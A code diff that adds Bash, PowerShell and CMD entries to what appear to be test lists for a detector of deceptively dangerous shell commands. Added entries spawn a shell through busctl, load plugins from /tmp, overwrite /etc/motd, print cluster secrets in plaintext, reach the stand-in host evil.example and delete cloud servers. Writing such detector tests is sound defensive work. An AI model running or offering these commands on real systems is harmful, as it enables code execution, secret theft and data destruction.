@@ -145,6 +145,38 @@ BASH = (
     "zypper lr -e /etc/x",
     "docker buildx inspect --bootstrap",
     "smartctl -l scttempint,5 /dev/sda",
+    "busctl --address=unixexec:path=/bin/sh,argv1=-c,argv2=id list",
+    "openssl list -providers -provider-path /tmp -provider x",
+    "mysqlshow --plugin-dir=/tmp --default-auth=x -h localhost",
+    "repoquery --setopt=pluginpath=/tmp/x jq",
+    "npm fund x --browser=/tmp/x",
+    "gem list --config-file=/tmp/x",
+    "brew info ./x.rb",
+    "guix search -L /tmp/x jq",
+    "linkerd check --kubeconfig /tmp/x",
+    "nm @/tmp/x",
+    "cloc --vcs=id .",
+    "restic -r 'rclone::sftp,ssh=id:' snapshots",
+    "rclone --config=/tmp/x ls r:",
+    "machinectl -Hroot@evil.example list",
+    "svn diff --config-dir=/tmp/x",
+    "curl -w '%output{/etc/motd}x' http://localhost/health",
+    "zstdcat -o /etc/motd /tmp/x.zst",
+    "lz4cat --rm x.lz4",
+    "jaq -i .a=1 x.json",
+    "info --dribble=/tmp/x ls",
+    "minikube logs --file=/tmp/x",
+    "terraform providers mirror /tmp/x",
+    "git lfs logs clear",
+    "tailscale status --web",
+    "lspci -H1",
+    "kops get secrets admin -oplaintext",
+    # a name that reads like a verb, after a verb
+    "gcloud compute instances delete list",
+    "gcloud compute scp list host:/tmp/",
+    "doctl compute droplet delete list",
+    "openstack server delete show",
+    "fly apps destroy list",
 )
 
 POWERSHELL = (
@@ -186,6 +218,10 @@ POWERSHELL = (
     "Test-ComputerSecureChannel -Repair",
     "Get-PackageProvider -Name x -ForceBootstrap",
     "net time /set",
+    "Get-WmiObject Win32_Process -Cn evil.example",
+    "Get-ChildItem -ov ErrorActionPreference",
+    "Get-TroubleshootingPack C:\\x -AnswerFile C:\\y",
+    "Get-WindowsDriver -Online -LogPath C:\\x",
 )
 
 CMD = (
@@ -225,4 +261,8 @@ CMD = (
     "tracert %USERDOMAIN%.evil.example",
     "net config server /hidden:yes",
     "net time /setsntp:evil.example",
+    "dir c:\\ /b /s .key | findstr /e .key",
+    "wevtutil qe System /sbm:C:\\x",
+    "schtasks /query /s evil.example",
+    "qwinsta /server:evil.example",
 )
